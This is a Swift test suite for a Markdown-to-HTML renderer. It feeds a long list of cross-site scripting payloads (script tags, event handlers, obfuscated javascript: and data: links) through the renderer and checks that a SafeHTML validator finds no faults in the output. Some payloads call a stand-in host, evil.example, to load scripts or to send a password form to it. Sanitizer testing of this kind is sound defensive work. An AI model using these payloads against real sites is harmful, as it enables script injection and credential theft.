import Diagnostics
import Markup
import Testing

@Suite struct SafetyTests {
  /// Markdown that would run a program, send a secret or deface a page if it were believed.
  static let payloads = [
    // Elements
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "text <script>alert(1)</script> text",
    "<script\n>alert(1)</script\n>",
    "<svg onload=alert(1)>",
    "<svg><script>alert&#40;1)</script></svg>",
    "a <svg/onload=alert(1)> b",
    "<img src=x onerror=alert(1)>",
    "a <img src=\"x\" onerror=\"alert(1)\"/> b",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<object data=\"data:text/html,<script>alert(1)</script>\"></object>",
    "<embed src=\"//evil.example/x.swf\">",
    "<form action=\"//evil.example\"><input name=password></form>",
    "<style>@import '//evil.example/x.css'</style>",
    "<link rel=stylesheet href=//evil.example>",
    "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
    "<base href=\"//evil.example/\">",
    "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<body onload=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<a href=\"javascript:alert(1)\">a</a>",
    "x <a onclick=alert(1) href=#>a</a>",
    "<!-- --><script>alert(1)</script>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[><script>alert(1)</script>]]>",
    "<?php echo 1; ?><script>alert(1)</script>",
    "<!DOCTYPE html [<!ENTITY x \"y\">]>",
    "</p></main><script>alert(1)</script>",
    "<div>\n\n<script>\n\nalert(1)\n</script>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    // Schemes
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a](<javascript:alert(1)>)",
    "[a](< javascript:alert(1)>)",
    "[a](<\tjavascript:alert(1)>)",
    "[a](<java\tscript:alert(1)>)",
    "[a](java&Tab;script:alert(1))",
    "[a](java&NewLine;script:alert(1))",
    "[a](javascript&colon;alert(1))",
    "[a](javascript&#58;alert(1))",
    "[a](javascript&#x3A;alert(1))",
    "[a](&#106;avascript:alert(1))",
    "[a](&#x6A&#x61&#x76;ascript:alert(1))",
    "[a](&#1;javascript:alert(1))",
    "[a](\u{1}javascript:alert(1))",
    "[a](java\u{0}script:alert(1))",
    "[a](\u{FEFF}javascript:alert(1))",
    "[a](\u{200B}javascript:alert(1))",
    "[a](\u{A0}javascript:alert(1))",
    "[a](javascript\\:alert(1))",
    "[a](\\javascript:alert(1))",
    "[a](javascript%3Aalert(1))",
    "[a](%6Aavascript:alert(1))",
    "[a](javascript://%0aalert(1))",
    "[a](ｊavascript:alert(1))",
    "[a](vbscript:msgbox(1))",
    "[a](VBSCRIPT:msgbox(1))",
    "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[a](DATA:text/html,<script>alert(1)</script>)",
    "[a](file:///etc/passwd)",
    "[a](feed:javascript:alert(1))",
    "[a](view-source:javascript:alert(1))",
    "[a](jar:https://evil.example!/x)",
    "[a](blob:https://evil.example/x)",
    "[a](livescript:alert(1))",
    "[a](ms-settings:x)",
    "<javascript:alert(1)>",
    "<JAVASCRIPT:alert(1)>",
    "<data:text/html,alert(1)>",
    "<vbscript:x>",
    "[a]\n\n[a]: javascript:alert(1)",
    "[a][b]\n\n[b]: <java\tscript:alert(1)> 'x'",
    "[a][b]\n\n[b]: data:text/html,x \"y\"",
    "![a][b]\n\n[b]: javascript:alert(1)",
    // Images
    "![a](javascript:alert(1))",
    "![a](data:image/svg+xml,<svg/onload=alert(1)>)",
    "![a](data:image/png;base64,AAAA)",
    "![a](vbscript:x)",
    "![<script>alert(1)</script>](x)",
    "![\" onerror=\"alert(1)](x)",
    "![a](x\"onerror=\"alert(1))",
    "![a](x 'y\" onerror=\"alert(1)')",
    "[![a](javascript:alert(1))](javascript:alert(2))",
    "![a [b](javascript:alert(1)) c](x)",
    // Attributes and text
    "[a](x\" onmouseover=\"alert(1))",
    "[a](x '\"><script>alert(1)</script>')",
    "[a](x \"&quot; onfocus=&quot;alert(1)\")",
    "[a](<x\"><script>alert(1)</script>>)",
    "[a](https://a.example/'onclick='alert(1))",
    "```\" onclick=\"alert(1)\nx\n```",
    "```\"><script>alert(1)</script>\nx\n```",
    "```html\n</code></pre><script>alert(1)</script>\n```",
    "`</code><script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "\\<script>alert(1)\\</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "# \" onclick=\"alert(1)",
    "# <script>alert(1)</script>",
    "## &quot;><img src=x onerror=alert(1)>",
    "1. <b onmouseover=alert(1)>x",
    "> <script>alert(1)",
    "<https://a.example/\"onclick=alert(1)>",
    "<a@b.example\"onclick=alert(1)>",
    "[a](mailto:x?subject=\"><script>alert(1)</script>)",
    "<<script>alert(1);//<</script>",
    "<x\u{0}y onclick=alert(1)>",
  ]

  @Test("lets no payload through", arguments: payloads)
  func harmless(payload: String) {
    let document = Reading(payload).document
    #expect(SafeHTML.faults(in: document.html()) == [])
    #expect(SafeHTML.faults(in: document.html { ResolvedLink($0.destination) }) == [])
  }

  @Test("lets no mixture of payloads through", arguments: 1...300 as ClosedRange<UInt64>)
  func mixtures(seed: UInt64) {
    var random = SeededGenerator(seed: seed)
    var markdown = ""
    for _ in 0..<Int.random(in: 2...6, using: &random) {
      let payload = SafetyTests.payloads.randomElement(using: &random) ?? ""
      let cut = Int.random(in: 0...payload.count, using: &random)
      markdown += Bool.random(using: &random) ? payload : String(payload.prefix(cut))
      markdown +=
        ["", " ", "\n", "\n\n", "](", "<", "\"", "`", "> "].randomElement(using: &random) ?? ""
    }
    let document = Reading(markdown).document
    #expect(
      SafeHTML.faults(in: document.html { ResolvedLink($0.destination) }) == [], "\(markdown)")
  }

  @Test(
    "is judged by a reader that finds faults",
    arguments: [
      "<script>", "<p onclick=\"x\">a</p>", "<a href=\"javascript:x\">a</a>", "<a href=x>a</a>",
      "<a href=\" java\tscript:x\">a</a>", "<img src=\"data:x\" alt=\"\" />", "<p>a", "a</p>",
      "<em><p></em></p>", "a > b", "a & b", "a < b", "<!-- a -->", "<p title=\"a\">b</p>", "<p",
      "<a href=\"x\" rel=\"a<b\">a</a>", "<a href=\"&quot;\" href='x'>a</a>",
    ])
  func judge(html: String) {
    #expect(SafeHTML.faults(in: Array(html.utf8)) != [])
  }

  @Test(
    "is judged by a reader that knows good HTML",
    arguments: [
      "", "a &amp; b", "<p>a<br />\nb</p>",
      "<a href=\"https://a.example/?b&amp;c\" title=\"d\">e</a>",
      "<a href=\"#a:b\">c</a>", "<ol start=\"3\">\n<li>a</li>\n</ol>",
    ])
  func judgeGood(html: String) {
    #expect(SafeHTML.faults(in: Array(html.utf8)) == [])
  }
}
